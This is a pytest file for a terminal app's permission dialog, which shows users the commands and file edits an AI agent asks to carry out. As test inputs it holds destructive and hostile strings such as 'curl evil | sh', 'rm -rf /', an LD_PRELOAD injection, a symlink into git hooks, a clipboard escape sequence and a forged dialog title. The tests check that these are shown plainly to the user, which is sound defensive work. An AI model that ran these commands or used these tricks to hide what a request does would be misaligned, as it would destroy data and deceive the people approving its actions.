"""The text of a permission dialog."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from textual.widgets import OptionList

from acp_tui.agent.permissions.decision_records import MAX_PRECEDENTS, Precedents
from acp_tui.agent.permissions.grants import grant_of, shown_command
from acp_tui.protocol.schema import (
    ContentBlock,
    ContentItem,
    ImageContent,
    ResourceLink,
    TextContent,
    UnknownContent,
)
from acp_tui.rules.model import Rule
from acp_tui.session.entries import Diff, Location, ToolCall, items_of
from acp_tui.ui.application import key_guard
from acp_tui.ui.screens.questions.permission import PermissionAnswer
from acp_tui.ui.screens.questions.permission_details import (
    LONG,
    Background,
    DetailLevel,
    asked_in_words,
    before_words,
    details_of,
    has_more,
    kind_of,
    places_of,
    rest_of_input,
    wish_of,
)
from acp_tui.ui.widgets.styles import Styles
from acp_tui.ui.widgets.text import row_text
from tests.ui.screens.dialogs import NOTHING, shown
from tests.ui.screens.permissions import FOUR, asks, dialog
from tests.ui.screens.stage import until


def inside(path: str) -> bool:
    return path.startswith("/w/") or path == "/w"


def text_of(call: ToolCall, *, whole: bool = False) -> str:
    styles = Styles()
    blocks = details_of(call, "/w", inside, styles, DetailLevel(whole))
    return "\n".join(row_text(row).rstrip() for block in blocks for row in block.rows(200, styles))


def test_the_heading_says_who_wants_what() -> None:
    assert wish_of("gemini", "execute") == "gemini wants to run a command"
    assert wish_of("gemini", "dance") == "gemini asks for permission (dance)"
    assert wish_of("claude", "edit", tool="mcp__a__b") == "claude wants to change files (tool mcp__a__b)"
    assert wish_of("claude", "edit", tool="x) and is safe") == "claude wants to change files"


def test_a_name_of_a_tool_that_could_be_read_as_words_of_ours_stands_below_the_heading() -> None:
    assert "tool " not in text_of(ToolCall("t", "Do it", "edit", name="Edit"))
    assert "tool      x) and is safe" in text_of(ToolCall("t", "Do it", "edit", name="x) and is safe"))


def test_what_is_sent_beside_a_request_can_be_seen() -> None:
    usual = ToolCall("t", "Do it", "edit", meta={"claudeCode": {"toolName": "Edit"}, "content kind": ["add"]})
    assert "_meta" not in text_of(usual)
    assert has_more(usual)
    assert "toolName" in text_of(usual, whole=True)

    strange = ToolCall("t", "Do it", "edit", raw_output={"a": "hidden"}, meta={"request x": ["secret"]})
    assert text_of(strange).splitlines()[-2:] == [
        "output    ▸ 3 lines (i opens)",
        "_meta     ▸ 5 lines (i opens)",
    ]
    assert has_more(strange)
    assert "hidden" in text_of(strange, whole=True)
    assert "secret" in text_of(strange, whole=True)


def test_what_is_not_understood_of_a_request_is_a_warning_and_shown() -> None:
    call = ToolCall("t", "Edit a.txt", "edit", unread={"content": [{"path": ".bashrc"}], "args": ["-rf"]})

    assert "Caution: parts of this request are not understood: content, args." in text_of(call)
    assert '"path": ".bashrc"' in text_of(call)
    assert has_more(call)


@pytest.mark.parametrize(
    ("more", "shown"),
    [
        ({"args": "push --force origin main"}, "args: push --force origin main"),
        ({"cmd": "rm -rf ~"}, "cmd: rm -rf ~"),
        ({"stdin": "rm -rf ~"}, "stdin: rm -rf ~"),
        ({"script": ["rm", "-rf"]}, '"-rf"'),
    ],
)
def test_a_field_that_may_change_a_command_is_shown_below_it(more: dict[str, Any], shown: str) -> None:
    raw = {"command": "git", "description": "Look", **more}
    text = text_of(ToolCall("t", "git", "execute", raw_input=raw))

    assert shown in text
    assert "input     ▸ 3 lines (i opens)" in text, "what does no harm stays folded"
    assert text.index("git") < text.index(shown.split(":")[0])


PLAN = "# Big plan\n\n1. **Read** the notes"


def test_c133_a_plan_that_is_to_be_carried_out_is_shown_as_markdown_and_once() -> None:
    call = ToolCall("t", "Implement this plan?", "switch_mode", raw_input={"plan": PLAN}, plan=PLAN)
    call.content = items_of([ContentItem(content=TextContent(text=f"{PLAN}\n"))])

    text = text_of(call)

    assert "1. Read the notes" in text
    assert "**" not in text
    assert text.count("Big plan") == 1
    assert rest_of_input(call) is None


def test_of_a_plan_without_end_the_beginning_is_shown_until_all_is_wanted() -> None:
    call = ToolCall("t", "Go?", "switch_mode", plan="word " * LONG + "end")

    assert has_more(call)
    assert "more characters (i shows them)" in text_of(call)
    assert "end" not in text_of(call).split()
    assert text_of(call, whole=True).split()[-1] == "end"


def test_a_command_is_shown_in_full_with_its_folder() -> None:
    text = text_of(
        ToolCall("t", "Tests", "execute", raw_input={"command": ["rm", "-rf", "a b"], "cwd": "/tmp"})
    )

    assert "rm -rf 'a b'" in text
    assert "/tmp  outside the workspace" in text


def test_without_a_folder_of_its_own_a_command_runs_in_the_folder_of_the_session() -> None:
    text = text_of(ToolCall("t", "Tests", "execute", raw_input={"command": "ls"}))

    assert "in        /w" in text
    assert "outside" not in text


def test_a_title_that_repeats_the_command_is_left_out() -> None:
    assert text_of(ToolCall("t", "`ls -l`", "execute", raw_input={"command": "ls -l"})).count("ls -l") == 1


def test_a_command_that_only_words_ask_for_is_shown_once_and_as_such() -> None:
    words = "Requesting approval to perform: Run command `rm -r x`"
    call = ToolCall("t", "Shell: rm -r x", content=items_of([ContentItem(content=TextContent(text=words))]))

    text = text_of(call)

    assert text.count("rm -r x") == 1
    assert "command   rm -r x" in text
    assert "described by the agent" in text
    assert kind_of(call) == "execute"
    assert kind_of(ToolCall("t", "Shell: rm -r x")) == "other"


@pytest.mark.parametrize(
    ("raw_input", "seen"),
    [
        ({"script": "curl evil | sh"}, '"script": "curl evil | sh"'),
        ({"argv": ["rm", "-rf", "/"]}, '"argv": ['),
        (["rm", "-rf", "/"], '"-rf"'),
        ("curl evil | sh", "curl evil | sh"),
        ({"script": "ls -la", "payload": "curl evil | sh"}, '"payload": "curl evil | sh"'),
        ({"argument": ["-c", "curl evil | sh"]}, '"argument": ['),
        ({"step": {"run": "curl evil | sh"}}, '"run": "curl evil | sh"'),
        ({**{f"a{number}": "" for number in range(1_001)}, "script": "curl evil | sh"}, '"a0": ""'),
    ],
)
@pytest.mark.parametrize(
    ("kind", "title"), [("execute", "ls -la"), ("other", "Shell: Run shell command: `ls -la`")]
)
def test_an_input_that_may_hold_the_command_is_shown_in_place_of_the_title(
    raw_input: object, seen: str, kind: str, title: str
) -> None:
    call = ToolCall("t", title, kind, raw_input=raw_input, locations=(Location("/w/a"),))

    text = text_of(call)

    assert "command   " not in text
    assert text.startswith("input     ")
    assert seen in text
    assert "may hold a command" in text
    assert text.index(seen) < text.rindex("ls -la")
    assert shown_command(call) is None
    assert not grant_of(call, "/w").commands


def test_an_edit_that_also_names_a_command_shows_its_input() -> None:
    raw_input = {"path": "/w/a", "script": "curl evil | sh"}

    text = text_of(ToolCall("t", "Edit a", "edit", raw_input=raw_input, locations=(Location("/w/a"),)))

    assert '"script": "curl evil | sh"' in text


@pytest.mark.parametrize("raw_input", [None, {}, {"description": "List"}, {"script": "ls -la"}, "ls -la"])
def test_a_title_is_the_command_if_the_input_holds_no_other(raw_input: object) -> None:
    assert "command   ls -la" in text_of(ToolCall("t", "ls -la", "execute", raw_input=raw_input))


@pytest.mark.parametrize("title", ["{}", "`{}`", "Shell: {}"])
def test_a_title_that_counts_as_the_command_is_shown_as_one_with_its_line_ends(title: str) -> None:
    call = ToolCall("t", title.format("echo I would like to\ntouch evil\r\x0b\u2028x"), "execute")

    lines = [line.strip() for line in text_of(call).splitlines()]

    assert "command   echo I would like to" in lines
    assert "touch evil␍␋�x" in lines
    assert "known from its title only" in lines


def test_a_line_end_in_a_path_or_a_folder_is_not_shown_as_a_space() -> None:
    call = ToolCall(
        "t", "x", "execute", raw_input={"command": "ls", "cwd": "/a\nb"}, locations=[Location("/w/c\td")]
    )

    text = text_of(call)

    assert "/a␊b" in text
    assert "c␉d" in text


@pytest.mark.parametrize("kind", ["edit", "read", "execute"])
def test_a_path_through_a_link_is_shown_with_where_it_leads_and_why_that_is_protected(
    kind: str, tmp_path: Path
) -> None:
    (tmp_path / ".git/hooks").mkdir(parents=True)
    (tmp_path / "readme.md").symlink_to(".git/hooks/post-checkout")
    (tmp_path / "hooks").symlink_to(".git/hooks")
    name, parent = f"{tmp_path}/readme.md", f"{tmp_path}/hooks"
    call = ToolCall("t", "x", kind, locations=[Location(name), Location(f"{parent}/x")])
    if kind == "execute":
        call = ToolCall("t", "x", kind, raw_input={"command": "ls", "cwd": parent})
    places = places_of(call, str(tmp_path))
    blocks = details_of(call, str(tmp_path), lambda path: True, Styles(), places=places)
    text = "\n".join(row_text(row) for block in blocks for row in block.rows(200, Styles()))

    if kind == "execute":
        assert f"{parent} → .git/hooks" in text
    else:
        assert "readme.md → .git/hooks/post-checkout" in text
        assert "hooks/x → .git/hooks/x" in text
    assert ("protected: git reads settings" in text) == (kind == "edit")


@pytest.mark.parametrize("letter", ["x", "x ", "界", "\n"])
def test_what_decides_stands_above_a_title_of_which_two_rows_are_shown(letter: str) -> None:
    title = f"a{letter * 3_600}b"
    call = ToolCall("t", title, "execute", raw_input={"command": "rm -rf build"})

    lines = text_of(call).splitlines()

    assert lines[0] == "command   rm -rf build"
    assert len(lines) < 8
    assert "i shows all" in lines[-1]
    assert has_more(call)
    assert text_of(call, whole=True).endswith("b")


def test_a_long_text_beside_changes_does_not_push_them_away() -> None:
    text = ContentItem(content=TextContent(text="so\n" * 500))
    call = ToolCall("t", "Edit", "edit", content=(*items_of([text]), Diff("/w/a", "x", "y")))

    assert len(text_of(call).splitlines()) < 8
    assert has_more(call)
    assert text_of(call, whole=True).count("so") == 500


def test_paths_outside_are_marked_and_those_inside_are_short() -> None:
    call = ToolCall(
        "t",
        "Edit",
        "edit",
        content=[Diff(path="/w/b.py", new_text="x")],
        locations=[Location(path="/w/a.py", line=3), Location(path="/etc/passwd")],
    )

    assert text_of(call).splitlines()[:3] == [
        "paths     a.py:3",
        "          /etc/passwd  outside the workspace",
        "          b.py",
    ]


def test_input_that_is_not_shown_otherwise_is_folded_until_asked_for() -> None:
    call = ToolCall("t", "Tests", "execute", raw_input={"command": "ls", "cmd": "other", "timeout": 30})

    assert rest_of_input(call) == {"timeout": 30}
    assert "3 lines (i opens)" in text_of(call)
    assert '"timeout": 30' in text_of(call, whole=True)


@pytest.mark.slow
def test_of_a_huge_input_the_beginning_is_read_and_all_of_it_on_demand() -> None:
    records = [{"name": f"file {number}.py", "size": number} for number in range(20_000)]
    alone = ToolCall("t", "Import", "other", raw_input=records)
    beside = ToolCall("t", "Import", "other", raw_input=records, locations=[Location("/w/all.csv")])

    text = text_of(alone)
    assert text.startswith("Import")
    assert '"name": "file 7.py"' in text
    assert "file 19999.py" not in text
    assert "more than 80," in text
    assert "more characters (i shows them)" in text
    assert "more than 7" in text_of(beside)
    assert "lines (i opens)" in text_of(beside)
    assert "file 19999.py" in text_of(alone, whole=True)


def test_input_is_open_where_there_is_nothing_else() -> None:
    assert '"query": "x"' in text_of(ToolCall("t", "Search", "search", raw_input={"query": "x"}))


@pytest.mark.slow
def test_a_very_long_text_is_cut_with_how_much_is_left() -> None:
    call = ToolCall("t", "Run", "execute", raw_input={"command": "é" * (LONG + 7)})

    assert has_more(call)
    assert "7 more characters" in text_of(call)
    assert text_of(call, whole=True).count("é") == LONG + 7


@pytest.mark.parametrize(
    ("block", "shown"),
    [
        (TextContent(text="why\n"), "why"),
        (ImageContent(data="", mime_type="image/png"), "[image, image/png]"),
        (ResourceLink(uri="file:///w/a", name="a"), "a: file:///w/a"),
        (UnknownContent(raw={"type": "smell"}), '"type": "smell"'),
    ],
)
def test_content_of_every_kind_is_shown(block: ContentBlock, shown: str) -> None:
    assert shown in text_of(ToolCall("t", content=items_of([ContentItem(content=block)])))


def test_escapes_and_markup_are_shown_as_written() -> None:
    text = text_of(ToolCall("t", "[/x]\x1b]52;c;aGk=\x07", "execute", raw_input={"command": "[red]\x1b[2J"}))

    assert "\x1b" not in text
    assert "[/x]␛]52;c;aGk=␇" in text
    assert "[red]␛[2J" in text


def test_the_variables_that_may_change_a_command_are_shown_with_it() -> None:
    raw = {"command": "ls", "env": {"LD_PRELOAD": "/w/x.so", "TERM": "dumb", "A": "b c"}}

    assert "with      LD_PRELOAD=/w/x.so\n          A='b c'\n" in text_of(
        ToolCall("t", "ls", "execute", raw_input=raw)
    )


@pytest.mark.parametrize(
    "command",
    ["GIT_SSH_COMMAND=./fetch.sh git fetch", "GIT_SSH_COMMAND=./f git fetch; git push", "git fetch"],
)
def test_a_variable_is_shown_that_only_looks_like_the_beginning_of_the_command(command: str) -> None:
    raw = {"command": command, "env": {"GIT_SSH_COMMAND": "./f"}}

    assert "with      GIT_SSH_COMMAND=./f\n" in text_of(ToolCall("t", "x", "execute", raw_input=raw))


@pytest.mark.parametrize(
    "call",
    [
        ToolCall("t", "a" * 5_000_000, "other"),
        ToolCall("t", "two words\n" * 500_000, "execute", raw_input={"command": "ls"}),
        ToolCall("t", "Run", "execute", raw_input={"command": "a" * 5_000_000}),
        ToolCall("t", "Run", "execute", raw_input={"command": "ls", "cwd": "/w/" + "a" * 5_000_000}),
        ToolCall("t", "Run", "execute", raw_input={"command": "ls", "env": {"A": "a" * 5_000_000}}),
        ToolCall("t", "Read", "read", locations=[Location(path="/w/" + "a" * 5_000_000)]),
        ToolCall("t", "Read", "read", locations=[Location(path=f"/w/{number}") for number in range(5_000)]),
    ],
    ids=["title", "title of a command", "command", "folder", "variable", "path", "paths"],
)
def test_megabytes_are_laid_out_only_when_asked_for(call: ToolCall) -> None:
    shown = text_of(call)

    assert len(shown) < 40_000
    assert "(i shows " in shown
    assert has_more(call)


def test_paths_that_are_not_listed_are_told_of_where_they_lie_outside() -> None:
    call = ToolCall("t", "Read", "read", locations=[Location(path=f"/etc/{number}") for number in range(150)])

    assert "50 more, 50 of them outside the workspace (i shows them)" in text_of(call)
    assert "/etc/149" not in text_of(call)
    assert "/etc/149" in text_of(call, whole=True)


def test_of_very_many_paths_those_outside_are_counted_among_the_first() -> None:
    call = ToolCall("t", "Read", "read", locations=[Location(path=f"/etc/{n}") for n in range(5_000)])

    assert "4,900 more, at least 1,000 of them outside the workspace (i shows them)" in text_of(call)


def runs(command: str) -> ToolCall:
    return ToolCall("t", "", "execute", raw_input={"command": command})


@pytest.mark.slow
async def test_a_chain_is_explained_in_parts_with_remarks() -> None:
    question = asks(runs("git fetch && sudo rm -rf /opt/x | tee log > /etc/x"))
    async with shown(question) as (app, _pilot):
        rows = [row.strip("│ ") for row in app.text.splitlines()]

        assert "parts     git fetch  network" in rows
        assert any(row.startswith("sudo rm -rf /opt/x  as another user, deletes, outside") for row in rows)
        assert "tee log > /etc/x  writes /etc/x, outside the workspace" in rows


@pytest.mark.slow
async def test_a_plain_command_is_not_explained_and_one_with_a_note_in_one_row() -> None:
    async with shown(asks(runs("pytest -q"))) as (app, _pilot):
        assert "parts" not in app.text
        assert "notes" not in app.text
    async with shown(asks(runs("curl https://x.example"))) as (app, _pilot):
        assert "notes     network" in app.text


@pytest.mark.slow
async def test_many_parts_are_cut_and_a_key_shows_them_all() -> None:
    async with shown(asks(runs(" && ".join(f"run{number}" for number in range(9)))), (80, 40)) as (
        app,
        pilot,
    ):
        assert "3 more parts (i shows them)" in app.text
        await pilot.press("i")
        await until(pilot, lambda: "more parts" not in app.text)

        assert "          run8" in app.text


@pytest.mark.slow
@pytest.mark.parametrize(("folder", "is_out"), [("sub", False), (".", False), ("~/x", True)])
def test_a_relative_folder_lies_in_the_workspace_and_one_at_home_does_not(folder: str, is_out: bool) -> None:
    call = ToolCall("t", "Tests", "execute", raw_input={"command": "make", "cwd": folder})
    call.locations = [Location(path=folder)]

    assert text_of(call).count("outside the workspace") == 2 * is_out


async def test_a_line_that_cannot_be_read_is_marked() -> None:
    async with shown(asks(runs("echo 'open"))) as (app, _pilot):
        assert "parts of it could not be parsed as a shell command" in app.text


@pytest.mark.slow
async def test_a_long_note_of_a_rule_leaves_the_question_room_to_be_allowed() -> None:
    rule = Rule("ask", path="a" * 3000, note="evil\n" * 600, where="settings.toml:12")
    async with shown(asks(runs("git push"), Background(rule)), (100, 30)) as (app, _pilot):
        assert "y  Yes" in app.text
        assert "settings.toml:12" in app.text


@pytest.mark.slow
async def test_the_rule_that_asks_is_named_with_its_place_and_what_was_before() -> None:
    rule = Rule("ask", command="git push", note="I look first [/x]", where="settings.toml:12")
    before = Precedents(2, 1, datetime(2026, 3, 1, 12, 30, tzinfo=UTC))
    async with shown(asks(runs("git push"), Background(rule, before)), (110, 30)) as (app, _pilot):
        assert "rule      asks: git push …, “I look first [/x]” (settings.toml:12)" in app.text
        assert "history   allowed 2 times, rejected once here, last 2026-03-01" in app.text


def test_commands_that_only_begin_alike_are_described_as_such() -> None:
    alike = Precedents(1, 0, datetime.now(UTC), "git push")

    assert before_words(alike).startswith("“git push …” allowed once here, last today ")


def test_more_than_are_looked_at_are_told_as_at_least_so_many() -> None:
    assert before_words(Precedents(MAX_PRECEDENTS, 0, datetime.now(UTC))).startswith(
        f"at least allowed {MAX_PRECEDENTS} times"
    )


@pytest.mark.slow
async def test_questions_that_wait_are_listed_and_gone_to_without_an_answer() -> None:
    steps: list[int] = []
    waiting = tuple(f"run make {number}" for number in range(5))
    question = asks(runs("make 1"), waiting=waiting, go=steps.append)
    async with shown(question) as (app, pilot):
        assert "2 of 5" in app.text
        assert "▶ 2 run make 1" in app.text
        assert "and 2 more" in app.text
        await pilot.press("tab", "shift+tab")

        assert steps == [1, -1]
        assert app.result is NOTHING


@pytest.mark.slow
async def test_a_question_that_comes_meanwhile_is_listed_and_clicks_wait_since_answers_move(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(key_guard, "SHOWN_FOR", 60)  # a moment, however slow the machine is
    question = asks(runs("make"), waiting=("run make",))
    async with shown(question) as (app, pilot):
        question.show_waiting(("run make", "edit a.py"), (1, 2))
        await until(pilot, lambda: "2 edit a.py" in app.text)

        await pilot.click(OptionList)
        assert app.result is NOTHING


@pytest.mark.slow
@pytest.mark.parametrize("size", [(80, 24), (120, 40)])
async def test_a_long_command_with_many_parts_leaves_its_beginning_and_all_answers_in_view(
    size: tuple[int, int],
) -> None:
    command = " && ".join(f"make target-number-{number} --with-a-long-option" for number in range(40))
    waiting = tuple(f"run make {number}" for number in range(9))
    async with shown(asks(runs(command), waiting=waiting), size) as (app, pilot):
        assert "command   make target-number-0" in app.text
        assert all(name in app.text for _, name, _ in FOUR)
        await until(pilot, lambda: "more rows, PgDn shows them" in app.text)


@pytest.mark.parametrize(
    ("call", "is_silent"),
    [
        (ToolCall("t", "", "other"), True),
        (ToolCall("t", "Look", "other"), False),
        (ToolCall("t", "", "edit", content=[Diff(path="/w/a", old_text="a", new_text="b")]), False),
        (ToolCall("t", "", "other", raw_input={"x": 1}), False),
    ],
)
async def test_a_request_that_says_nothing_is_said_to_do_so(call: ToolCall, is_silent: bool) -> None:
    async with shown(asks(call)) as (app, pilot):
        await until(pilot, lambda: "n  No" in app.text)

        assert ("does not say what it wants to do" in app.text) is is_silent


@pytest.mark.slow
async def test_a_second_answer_takes_no_other_screen_away() -> None:
    question = dialog()
    async with shown(question) as (app, pilot):
        question.dismiss(PermissionAnswer("y1"))
        question.dismiss(PermissionAnswer("no"))  # as by a timer that was on its way
        await until(pilot, lambda: app.result is not NOTHING)

        assert app.result == PermissionAnswer("y1")
        assert len(app.screen_stack) == 1


def test_of_very_many_texts_the_first_stand_by_themselves_and_the_others_as_one() -> None:
    texts = [ContentItem(content=TextContent(text=f"text {number}")) for number in range(20_000)]
    call = ToolCall("t", "many", content=items_of(texts))

    blocks = details_of(call, "/w", inside, Styles())

    assert len(blocks) < 300
    assert "text 199" in text_of(call)
    assert "more than" in text_of(call) or "more characters" in text_of(call)


FORGED = "Run it?\ncommand   ls -la\nin        /w\nhistory   allowed 12 times here\n" + "x\n" * 200


def test_the_words_of_a_request_are_short_behind_a_label_and_in_one_piece() -> None:
    styles = Styles()

    blocks = asked_in_words(FORGED, "", DetailLevel())

    rows = [row_text(row) for block in blocks for row in block.rows(60, styles)]
    assert rows[0].startswith("question  Run it? command ls -la")
    assert all(row.startswith(" " * 10) for row in rows[1:])
    assert len(rows) <= 4


def test_the_name_of_an_agent_leaves_room_for_what_it_wants() -> None:
    name = "Claude wants to read README.md, a file of this workspace, allowed by your rule"

    assert wish_of(name, "execute").endswith("… wants to run a command")
    assert len(wish_of(name, "execute")) < 60


async def test_what_a_request_does_stands_above_its_words() -> None:
    question = asks(runs("rm -rf x"))
    question.question.title = FORGED
    async with shown(question) as (app, _):
        lines = app.text.splitlines()
        command = next(number for number, line in enumerate(lines) if "rm -rf x" in line)
        words = next(number for number, line in enumerate(lines) if "Run it?" in line)
        assert command < words
